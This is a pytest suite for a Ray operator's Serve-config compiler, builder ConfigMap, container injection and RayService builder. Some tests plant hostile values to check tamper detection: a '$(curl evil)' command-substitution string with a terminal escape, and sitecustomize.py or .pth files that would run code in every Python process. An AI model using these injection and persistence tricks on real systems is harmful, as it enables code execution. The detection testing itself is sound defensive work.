"""Compiling a ServeGraph into a Serve config, and the objects that run it: the builder ConfigMap,
the Ray containers' injection and the RayService.

The compiled text is deterministic (Hypothesis: same graph → same bytes, whatever the document
order of deployments and edges), its `args` round-trip through the builder's own pydantic schema
(`GraphArgs`, which Serve validates them with inside Ray) and the whole config through Ray
Serve's `ServeDeploySchema`. Go's YAML rules (how KubeRay and our RayService controller read
`serveConfigV2`) read back exactly the values compiled.
"""

from __future__ import annotations

import ast
import copy
import inspect
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from ray_io.v1 import RayService
from ray_operator.bounded_yaml import load_go_yaml as load_serve_config
from ray_operator.builders.serve_graph import (
    BUILDER_FILE,
    USER_PYTHONPATH,
    build_builder_configmap,
    build_rayservice,
    builder_configmap_findings,
    builder_configmap_name,
    builder_digest,
    builder_source,
    builder_version,
    compile_serve_config,
    digest,
    graph_label_value,
    inject_builder,
    mounted_configmap_names,
    render_serve_config,
)
from ray_operator.servegraph import ray_operator_serve_graph as builder_module
from ray_operator.servegraph.ray_operator_serve_graph import GraphArgs, build
from ray_operator.spec import serve_graph_names as names
from ray_operator.validation.rayservice import validate_rayservice
from ray_operator.validation.serve_graph import parse_graph

from tests.builders.clusters import ray_container, raycluster, worker_group
from tests.servegraph.graphs import ServeGraph, as_plain, document, pipeline_graph, valid_graphs

Config = dict[str, Any]
HTTP = {"host": "127.0.0.1", "port": 8123}
MOUNT = names.BUILDER_MOUNT_PATH
BUILDER_PATH = Path(builder_module.__file__)


def compiled(graph: ServeGraph, *, http_options: Config | None = None) -> str:
    return compile_serve_config(
        parse_graph(document(graph)), default_application_name="my-graph", http_options=http_options
    )


def loaded(graph: ServeGraph) -> Config:
    config: Config = yaml.safe_load(compiled(graph))
    return config


def application(graph: ServeGraph) -> Config:
    app: Config = loaded(graph)["applications"][0]
    return app


def rsg(**spec: Any) -> Config:
    return {
        "apiVersion": "ray-operator.io/v1alpha1",
        "kind": "RayServeGraph",
        "metadata": {"name": "pipeline", "namespace": "ns1", "uid": "uid-rsg"},
        "spec": {
            "source": {"url": "https://registry.example.com/pipeline.pb"},
            "rayClusterSpec": raycluster()["spec"],
            **spec,
        },
    }


# --- the Serve config --------------------------------------------------------------------------


def test_the_pipeline_compiles_to_builder_args_and_scaling_overrides() -> None:
    assert loaded(pipeline_graph()) == {
        "applications": [
            {
                "name": "pipeline",
                "route_prefix": "/",
                "import_path": "ray_operator_serve_graph:build",
                "args": {
                    "format": "ray-operator.io/v1alpha1",
                    "ingress": "pre",
                    "deployments": [
                        {
                            "name": "model",
                            "import_path": "graph_pipeline:Model",
                            "init_kwargs": {"factor": 3},
                            "handles": {"post": "post"},
                        },
                        {
                            "name": "post",
                            "import_path": "graph_pipeline:Postprocess",
                            "init_args": ["out"],
                        },
                        {
                            "name": "pre",
                            "import_path": "graph_pipeline:Preprocess",
                            "handles": {"model": "model"},
                        },
                    ],
                },
                "deployments": [
                    {"name": name, "num_replicas": 1, "ray_actor_options": {"num_cpus": 0}}
                    for name in ("model", "post", "pre")
                ],
            }
        ]
    }


def test_http_options_become_the_top_level_http_options() -> None:
    config = yaml.safe_load(compiled(pipeline_graph(), http_options=HTTP))
    assert config["http_options"] == HTTP


def test_an_unnamed_graph_takes_the_default_application_name_and_route() -> None:
    graph = pipeline_graph(application_name="")
    graph.route_prefix = ""
    app = application(graph)
    assert (app["name"], app["route_prefix"]) == ("my-graph", "/")


def test_a_replica_change_touches_only_the_deployments_overrides() -> None:
    before, after = application(pipeline_graph()), application(pipeline_graph(model_replicas=2))
    assert before["args"] == after["args"]
    assert after["deployments"][0] == {
        "name": "model",
        "num_replicas": 2,
        "ray_actor_options": {"num_cpus": 0},
    }


def test_an_init_arg_change_touches_only_args() -> None:
    before, after = application(pipeline_graph()), application(pipeline_graph(factor=4))
    assert before["deployments"] == after["deployments"]
    assert after["args"]["deployments"][0]["init_kwargs"] == {"factor": 4}


def test_scaling_and_resources_map_to_serve_deployment_options() -> None:
    graph = pipeline_graph()
    model = graph.deployments[1]
    model.autoscaling.min_replicas = 0
    model.autoscaling.max_replicas = 4
    model.autoscaling.initial_replicas = 1
    model.autoscaling.target_ongoing_requests = 2.5
    model.autoscaling.downscale_delay_s = 60
    model.ray_actor_options.num_gpus = 0.5
    model.ray_actor_options.memory_bytes = 2 * 1024**3
    model.ray_actor_options.resources["accelerator_type_a100"] = 0.25
    model.max_ongoing_requests = 8
    model.user_config.update({"threshold": 0.75, "labels": ["a", "b"]})
    assert application(graph)["deployments"][0] == {
        "name": "model",
        "autoscaling_config": {
            "min_replicas": 0,
            "max_replicas": 4,
            "initial_replicas": 1,
            "target_ongoing_requests": 2.5,
            "downscale_delay_s": 60,
        },
        "ray_actor_options": {
            "num_cpus": 0,
            "num_gpus": 0.5,
            "memory": 2 * 1024**3,
            "resources": {"accelerator_type_a100": 0.25},
        },
        "max_ongoing_requests": 8,
        "user_config": {"threshold": 0.75, "labels": ["a", "b"]},
    }


def test_a_deployment_without_options_gets_no_override() -> None:
    graph = ServeGraph(ingress="only")
    graph.deployments.add(name="only", import_path="app:Only")
    assert "deployments" not in application(graph)


def test_the_runtime_env_is_the_applications() -> None:
    graph = pipeline_graph()
    graph.runtime_env.pip.extend(["numpy==2.1.0", "requests"])
    graph.runtime_env.env_vars.update({"MODE": "fast", "A": "1"})
    graph.runtime_env.working_dir = "s3://bucket/app.zip"
    assert application(graph)["runtime_env"] == {
        "pip": ["numpy==2.1.0", "requests"],
        "env_vars": {"A": "1", "MODE": "fast"},
        "working_dir": "s3://bucket/app.zip",
    }


@pytest.mark.parametrize(
    ("number", "expected"),
    [(3.0, 3), (-0.0, 0), (0.5, 0.5), (2.0**53, 2**53), (2.0**53 + 2, 2.0**53 + 2), (1e300, 1e300)],
)
def test_integral_struct_doubles_compile_to_ints_within_2_to_the_53(
    number: float, expected: int | float
) -> None:
    graph = pipeline_graph()
    graph.deployments[1].init_kwargs.update({"factor": number})
    value = application(graph)["args"]["deployments"][0]["init_kwargs"]["factor"]
    assert (type(value), value) == (type(expected), expected)


GO_AMBIGUOUS = ["y", "N", "on", "Off", "yes", "TRUE", "null", "~", "", "5e-3", "1_000", "0x1F"]
GO_AMBIGUOUS += ["2024-01-01", "12:30", ".inf", "-.NaN", "-", "#x", "a: b", "- a", "'", '"']
GO_AMBIGUOUS += ["\u2028", "\x85", "\ufeff", "😀", "tab\there", " padded ", "<<", "!tag", "&a"]


@pytest.mark.parametrize("text", GO_AMBIGUOUS)
def test_strings_stay_strings_under_go_yaml_rules(text: str) -> None:
    graph = pipeline_graph()
    graph.deployments[2].init_args[0] = text
    graph.deployments[1].user_config.update({text: text})
    config = load_serve_config(compiled(graph))
    assert config == yaml.safe_load(compiled(graph))
    assert config["applications"][0]["args"]["deployments"][1]["init_args"] == [text]
    assert config["applications"][0]["deployments"][0]["user_config"] == {text: text}


def test_the_digest_is_sha256_of_the_text() -> None:
    assert digest("") == "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    assert digest(b"") == digest("")


# --- determinism and round trips (Hypothesis) ----------------------------------------------------

GRAPH_SETTINGS = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)


@given(valid_graphs(), st.randoms(use_true_random=False))
@GRAPH_SETTINGS
def test_the_same_graph_compiles_to_the_same_bytes_in_any_document_order(
    graph: ServeGraph, random: Any
) -> None:
    text = compiled(graph)
    shuffled = ServeGraph()
    shuffled.CopyFrom(graph)
    deployments, edges = list(shuffled.deployments), list(shuffled.edges)
    random.shuffle(deployments)
    random.shuffle(edges)
    del shuffled.deployments[:], shuffled.edges[:]
    shuffled.deployments.extend(deployments)
    shuffled.edges.extend(edges)
    assert compiled(graph) == text
    assert compiled(shuffled) == text


@given(valid_graphs())
@GRAPH_SETTINGS
def test_random_graphs_round_trip_through_the_builders_argument_schema(graph: ServeGraph) -> None:
    config = load_serve_config(compiled(graph))
    args = GraphArgs.model_validate(config["applications"][0]["args"])
    assert args.ingress == graph.ingress
    described = {deployment.name: deployment for deployment in args.deployments}
    assert set(described) == {deployment.name for deployment in graph.deployments}
    for deployment in graph.deployments:
        built = described[deployment.name]
        assert built.import_path == deployment.import_path
        assert built.init_args == as_plain(_json(deployment.init_args))
        assert built.init_kwargs == as_plain(_json(deployment.init_kwargs))
        expected_handles = {
            edge.argument: edge.callee for edge in graph.edges if edge.caller == deployment.name
        }
        assert built.handles == expected_handles


def test_the_operator_compiles_with_libyaml() -> None:
    # The compiled text is libyaml's (render_serve_config); a PyYAML without it would be slower
    # and write some keys differently.
    assert yaml.__with_libyaml__


@given(valid_graphs())
@GRAPH_SETTINGS
def test_both_yaml_emitters_write_the_same_values(graph: ServeGraph) -> None:
    config = yaml.safe_load(compiled(graph, http_options=HTTP))
    for pure_python in (True, False):
        assert load_serve_config(render_serve_config(config, pure_python=pure_python)) == config


@pytest.mark.needs_ray
@given(valid_graphs())
@GRAPH_SETTINGS
def test_random_graphs_compile_to_configs_ray_serve_accepts(graph: ServeGraph) -> None:
    from ray.serve.schema import ServeDeploySchema  # Ray is heavy: imported by this test only

    config = load_serve_config(compiled(graph, http_options=HTTP))
    ServeDeploySchema.model_validate(config)


def _json(message: Any) -> Any:
    from google.protobuf.json_format import MessageToDict

    value = MessageToDict(message)
    return value if value is not None else []


# --- the builder module ------------------------------------------------------------------------


def test_the_builder_module_does_not_postpone_annotations() -> None:
    # Serve validates args with GraphArgs only when the annotation is the class itself
    # (`inspect.isclass`): `from __future__ import annotations` would make it a string.
    assert inspect.signature(build).parameters["args"].annotation is GraphArgs
    tree = ast.parse(BUILDER_PATH.read_text())
    futures = [node for node in tree.body if isinstance(node, ast.ImportFrom)]
    assert all(node.module != "__future__" for node in futures)


def test_the_builder_module_stands_alone_and_imports_ray_lazily() -> None:
    tree = ast.parse(BUILDER_PATH.read_text())
    top_level: set[str] = set()
    for node in tree.body:
        if isinstance(node, ast.Import):
            top_level |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            top_level.add(node.module.split(".")[0])
    assert top_level <= {"importlib", "graphlib", "typing", "pydantic"}
    everywhere = [
        node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
    ] + [
        alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    ]
    assert not any(name.startswith("ray_operator") for name in everywhere)


def test_the_builder_reads_the_format_the_compiler_writes() -> None:
    assert builder_module.GRAPH_FORMAT == names.GRAPH_FORMAT
    assert f"{builder_module.__name__.rsplit('.', 1)[1]}:build" == names.BUILDER_IMPORT_PATH


def test_the_builders_schema_refuses_args_of_another_format_or_wiring() -> None:
    args = load_serve_config(compiled(pipeline_graph()))["applications"][0]["args"]
    for broken in (
        {**args, "format": "ray-operator.io/v2"},
        {**args, "ingress": "nobody"},
        {**args, "extra": 1},
    ):
        with pytest.raises(ValueError, match="validation error"):
            GraphArgs.model_validate(broken)


def test_builder_source_is_the_shipped_module() -> None:
    assert builder_source() == BUILDER_PATH.read_text(encoding="utf-8")


# --- the builder ConfigMap ---------------------------------------------------------------------


def test_the_builder_configmap_is_labelled_owned_and_holds_the_module_alone_immutably() -> None:
    configmap = build_builder_configmap(rsg())
    assert configmap["metadata"] == {
        "name": f"pipeline-serve-graph-builder-{builder_version()}",
        "namespace": "ns1",
        "labels": {
            "ray-operator.io/serve-graph": "pipeline",
            "app.kubernetes.io/created-by": "ray-operator",
        },
        "ownerReferences": [
            {
                "apiVersion": "ray-operator.io/v1alpha1",
                "kind": "RayServeGraph",
                "name": "pipeline",
                "uid": "uid-rsg",
                "controller": True,
                "blockOwnerDeletion": True,
            }
        ],
    }
    assert configmap["data"] == {BUILDER_FILE: builder_source()}
    assert configmap["immutable"] is True
    assert "binaryData" not in configmap
    assert BUILDER_FILE == "ray_operator_serve_graph.py"


def test_the_configmap_name_carries_the_modules_version() -> None:
    """An immutable ConfigMap is never refreshed in a running Pod: a new module, a new name."""
    assert builder_digest() == digest(builder_source())
    assert builder_version() == digest(builder_source()).removeprefix("sha256:")[:10]
    assert builder_configmap_name("pipeline") == f"pipeline-serve-graph-builder-{builder_version()}"


def test_what_the_operator_writes_has_no_findings() -> None:
    assert builder_configmap_findings(build_builder_configmap(rsg())) == []


def planted(**changes: Any) -> Config:
    configmap = build_builder_configmap(rsg())
    configmap.update(changes)
    return configmap


@pytest.mark.parametrize(
    ("configmap", "findings"),
    [
        (
            planted(data={BUILDER_FILE: builder_source(), "sitecustomize.py": "import os"}),
            ["data keys besides the module"],
        ),
        (planted(binaryData={"x.pth": "aW1wb3J0IG9z"}), ["binaryData"]),
        (planted(immutable=False), ["no immutable: true"]),
        (planted(immutable=None), ["no immutable: true"]),
        (
            planted(data={BUILDER_FILE: builder_source() + "\nimport os"}),
            ["a module that is not the operator's"],
        ),
        (planted(data={}), ["a module that is not the operator's"]),
        (
            {"metadata": {"name": "x"}, "data": {"sitecustomize.py": "import os"}},
            [
                "a module that is not the operator's",
                "data keys besides the module",
                "no immutable: true",
            ],
        ),
    ],
)
def test_every_difference_from_what_the_operator_writes_is_found(
    configmap: Config, findings: list[str]
) -> None:
    assert builder_configmap_findings(configmap) == findings


def test_findings_never_echo_what_was_planted() -> None:
    hostile = "$(curl evil) sitecustomize.py \x1b[2J"
    configmap = planted(data={hostile: hostile, BUILDER_FILE: hostile}, binaryData={hostile: ""})
    assert builder_configmap_findings(configmap)
    assert all(hostile not in finding for finding in builder_configmap_findings(configmap))
    assert all("sitecustomize" not in finding for finding in builder_configmap_findings(configmap))


def test_a_long_graph_name_gives_a_short_distinct_configmap_name_and_label() -> None:
    first, second = "a" * 250 + "x", "a" * 250 + "y"
    assert len(builder_configmap_name(first)) <= 253
    assert builder_configmap_name(first) != builder_configmap_name(second)
    assert builder_configmap_name(first).endswith(f"-serve-graph-builder-{builder_version()}")
    assert len(graph_label_value(first)) <= 63
    assert graph_label_value(first) != graph_label_value(second)
    assert graph_label_value("pipeline") == "pipeline"


# --- injecting the builder into the Ray containers -----------------------------------------------


def cluster_spec(*, head_env: list[Config] | None = None) -> Config:
    spec: Config = raycluster(groups=[worker_group("a"), worker_group("b")])["spec"]
    if head_env is not None:
        spec["headGroupSpec"]["template"]["spec"]["containers"][0]["env"] = head_env
    return spec


def pod_specs(spec: Config) -> list[Config]:
    return [spec["headGroupSpec"]["template"]["spec"]] + [
        group["template"]["spec"] for group in spec["workerGroupSpecs"]
    ]


BUILDER_VOLUME = {
    "name": names.BUILDER_VOLUME,
    "configMap": {"name": "cm", "items": [{"key": BUILDER_FILE, "path": BUILDER_FILE}]},
}


def test_every_ray_container_mounts_the_builder_and_has_it_on_pythonpath() -> None:
    injected = inject_builder(cluster_spec(), configmap_name="cm")
    for pod_spec in pod_specs(injected):
        assert pod_spec["volumes"] == [BUILDER_VOLUME]
        container = pod_spec["containers"][0]
        assert container["volumeMounts"] == [
            {"name": names.BUILDER_VOLUME, "mountPath": MOUNT, "readOnly": True}
        ]
        assert container["env"] == [{"name": "PYTHONPATH", "value": MOUNT}]


def test_injection_is_idempotent_and_leaves_the_input_alone() -> None:
    spec = cluster_spec()
    original = copy.deepcopy(spec)
    once = inject_builder(spec, configmap_name="cm")
    assert inject_builder(once, configmap_name="cm") == once
    assert inject_builder(spec, configmap_name="cm") == once
    assert spec == original


def test_injection_prepends_to_an_existing_pythonpath_and_keeps_other_settings() -> None:
    spec = cluster_spec(
        head_env=[{"name": "PYTHONPATH", "value": "/app"}, {"name": "A", "value": "1"}]
    )
    head = spec["headGroupSpec"]["template"]["spec"]
    head["volumes"] = [{"name": "data", "emptyDir": {}}]
    head["containers"][0]["volumeMounts"] = [{"name": "data", "mountPath": "/data"}]
    head["containers"].append(ray_container("sidecar"))
    injected = inject_builder(spec, configmap_name="cm")
    pod = injected["headGroupSpec"]["template"]["spec"]
    assert pod["containers"][0]["env"] == [
        {"name": "PYTHONPATH", "value": f"{MOUNT}:/app"},
        {"name": "A", "value": "1"},
    ]
    assert [volume["name"] for volume in pod["volumes"]] == ["data", names.BUILDER_VOLUME]
    assert [mount["name"] for mount in pod["containers"][0]["volumeMounts"]] == [
        "data",
        names.BUILDER_VOLUME,
    ]
    assert "volumeMounts" not in pod["containers"][1]
    assert inject_builder(injected, configmap_name="cm") == injected


def test_a_pythonpath_from_a_secret_is_kept_behind_the_builder() -> None:
    from_secret = {"secretKeyRef": {"name": "paths", "key": "pythonpath"}}
    spec = cluster_spec(head_env=[{"name": "PYTHONPATH", "valueFrom": from_secret}])
    injected = inject_builder(spec, configmap_name="cm")
    assert injected["headGroupSpec"]["template"]["spec"]["containers"][0]["env"] == [
        {"name": USER_PYTHONPATH, "valueFrom": from_secret},
        {"name": "PYTHONPATH", "value": f"{MOUNT}:$({USER_PYTHONPATH})"},
    ]
    assert inject_builder(injected, configmap_name="cm") == injected


def test_the_volume_projects_the_module_file_alone() -> None:
    """Any other key of the ConfigMap would land beside the module, first on PYTHONPATH (a
    `sitecustomize.py` runs in every Python process): only the module is projected."""
    injected = inject_builder(cluster_spec(), configmap_name="cm")
    for pod_spec in pod_specs(injected):
        (volume,) = (v for v in pod_spec["volumes"] if v["name"] == names.BUILDER_VOLUME)
        assert volume["configMap"]["items"] == [{"key": BUILDER_FILE, "path": BUILDER_FILE}]


def test_a_user_volume_of_the_builders_name_cannot_widen_the_projection() -> None:
    spec = cluster_spec()
    head = spec["headGroupSpec"]["template"]["spec"]
    head["volumes"] = [{"name": names.BUILDER_VOLUME, "configMap": {"name": "cm"}}]
    head["containers"][0]["volumeMounts"] = [{"name": "mine", "mountPath": MOUNT}]
    pod = inject_builder(spec, configmap_name="cm")["headGroupSpec"]["template"]["spec"]
    assert pod["volumes"] == [BUILDER_VOLUME]
    assert pod["containers"][0]["volumeMounts"] == [
        {"name": names.BUILDER_VOLUME, "mountPath": MOUNT, "readOnly": True}
    ]


def test_the_mounted_configmaps_of_a_cluster_spec_are_found_in_every_group() -> None:
    spec = inject_builder(cluster_spec(), configmap_name="cm")
    worker = spec["workerGroupSpecs"][1]["template"]["spec"]
    worker["volumes"].append(
        {"name": "p", "projected": {"sources": [{"configMap": {"name": "projected"}}, {}]}}
    )
    worker["volumes"].append({"name": "s", "secret": {"secretName": "not-a-configmap"}})
    assert mounted_configmap_names(spec) == {"cm", "projected"}
    assert mounted_configmap_names({}) == set()


def test_a_configmap_rename_replaces_the_volume_instead_of_adding_one() -> None:
    injected = inject_builder(
        inject_builder(cluster_spec(), configmap_name="old"), configmap_name="new"
    )
    assert inject_builder(cluster_spec(), configmap_name="new") == injected


# --- the RayService ----------------------------------------------------------------------------


def test_the_rayservice_runs_the_config_on_the_injected_cluster() -> None:
    graph = rsg(upgradeStrategy={"type": "NewCluster"}, rayClusterDeletionDelaySeconds=30)
    text = compiled(pipeline_graph())
    service = build_rayservice(graph, serve_config=text)
    assert service["apiVersion"] == "ray.io/v1"
    assert service["kind"] == "RayService"
    assert service["metadata"]["name"] == "pipeline"
    assert service["metadata"]["labels"]["ray-operator.io/serve-graph"] == "pipeline"
    assert service["metadata"]["ownerReferences"][0]["controller"] is True
    assert service["spec"] == {
        "serveConfigV2": text,
        "rayClusterConfig": inject_builder(
            graph["spec"]["rayClusterSpec"],
            configmap_name=f"pipeline-serve-graph-builder-{builder_version()}",
        ),
        "upgradeStrategy": {"type": "NewCluster"},
        "rayClusterDeletionDelaySeconds": 30,
    }


def test_the_rayservice_takes_the_service_name_and_omits_unset_fields() -> None:
    service = build_rayservice(rsg(serviceName="frontend"), serve_config="applications: []\n")
    assert service["metadata"]["name"] == "frontend"
    assert set(service["spec"]) == {"serveConfigV2", "rayClusterConfig"}


def test_a_graph_without_uid_builds_objects_without_owner_references() -> None:
    graph = rsg()
    del graph["metadata"]["uid"]
    assert "ownerReferences" not in build_rayservice(graph, serve_config="")["metadata"]
    assert "ownerReferences" not in build_builder_configmap(graph)["metadata"]


def test_the_built_rayservice_passes_the_rayservice_validation_and_model() -> None:
    service = build_rayservice(rsg(), serve_config=compiled(pipeline_graph(), http_options=HTTP))
    assert validate_rayservice(service) == []
    assert validate_rayservice(RayService.model_validate(service)) == []
